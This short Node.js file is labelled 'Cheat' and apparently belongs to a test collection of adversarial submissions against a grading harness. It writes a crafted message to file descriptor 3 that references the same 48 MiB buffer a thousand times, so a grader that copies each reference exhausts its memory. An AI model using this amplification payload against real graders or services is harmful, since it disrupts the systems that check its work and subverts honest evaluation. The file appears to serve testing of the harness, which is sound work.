// Cheat: names the same 48 MiB on fd 3 a thousand times, each of which would be a copy to whoever reads them
// Works: in-process
// Proof: harms

import { writeSync } from "node:fs";

const bytes = Buffer.alloc(48 * 1024 * 1024);
const copy = { $: "bytes", kind: "Int8Array", at: 0, length: bytes.length };
const json = Buffer.from(
  JSON.stringify([{ op: "notLoaded", value: Array.from({ length: 1000 }, () => copy) }]),
);
const head = Buffer.alloc(8);
head.writeUInt32BE(4 + json.length + bytes.length, 0);
head.writeUInt32BE(json.length, 4);
for (const part of [head, json, bytes]) {
  for (let at = 0; at < part.length;) {
    try {
      at += writeSync(3, part, at);
    } catch {
      // The grader has yet to read.
    }
  }
}
